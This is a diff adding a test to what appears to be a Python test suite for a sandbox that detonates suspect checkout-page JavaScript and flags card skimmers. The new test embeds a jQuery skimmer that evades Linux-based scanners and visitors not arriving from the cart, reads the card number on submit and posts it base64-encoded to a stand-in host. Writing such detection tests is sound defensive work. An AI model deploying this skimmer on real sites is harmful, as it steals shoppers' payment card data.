@@ -315,6 +315,24 @@ async def test_a_file_that_replaces_fetch_is_tried_where_orders_go_through_fetch
     assert result.verdict is Verdict.MALICIOUS, [(p.template, p.verdict) for p in result.pages]
 
 
+async def test_a_kit_for_desktop_shoppers_from_the_cart_runs(detonator: Detonator) -> None:
+    """Kits skip Linux (where scanners run) and visitors who did not come from the cart: the
+    shopper is on Windows everywhere it says so, and arrives from the platform's cart page. A
+    form asked for by another platform's id through a list query is the card form too."""
+    code = r"""jQuery(function ($) {
+      var desktop = /Windows NT|Macintosh/.test(navigator.userAgent) &&
+        navigator.platform === 'Win32' && !/Linux|X11/.test(navigator.userAgent);
+      if (!desktop || document.referrer.indexOf(location.hostname + '/cart') === -1) return;
+      $('form#checkout_form').on('submit', function () {
+        var n = $(this).find('input[name="card[number]"]').val();
+        $.post('https://desktop-stats.test/p', {p: btoa(n)});
+      });
+    });"""
+    result = await detonator.detonate("desktop.js", code, templates=["shopify"])
+    assert result.verdict is Verdict.MALICIOUS, [(p.error, p.interaction) for p in result.pages]
+    assert any("come to from /cart" in g for p in result.pages for g in p.gates)
+
+
 async def test_a_kit_that_points_the_card_form_elsewhere_is_caught_without_a_submit(
         detonator: Detonator) -> None:
     code = """var f = document.querySelector('#co-payment-form');
